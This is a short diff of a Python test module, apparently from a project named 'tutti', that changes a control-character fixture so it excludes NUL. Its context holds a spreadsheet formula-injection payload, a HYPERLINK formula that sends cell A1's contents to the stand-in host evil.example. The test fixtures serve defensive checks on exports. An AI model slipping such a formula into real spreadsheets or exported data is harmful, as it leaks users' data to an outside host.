@@ -23,7 +23,8 @@ from tutti.participation.tests.test_collections import YEAR
 from tutti.participation.tokens import return_link_path
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
-CONTROLS = "".join(chr(c) for c in range(32) if chr(c) not in "\t\n\r") + "\x7f\x85"
+# Old data can hold any of these but NUL, which PostgreSQL never stores.
+CONTROLS = "".join(chr(c) for c in range(1, 32) if chr(c) not in "\t\n\r") + "\x7f\x85"
 HOSTILE = f"Bell{CONTROLS} Ringer"
 ROOT = Path(__file__).resolve().parents[3]
 
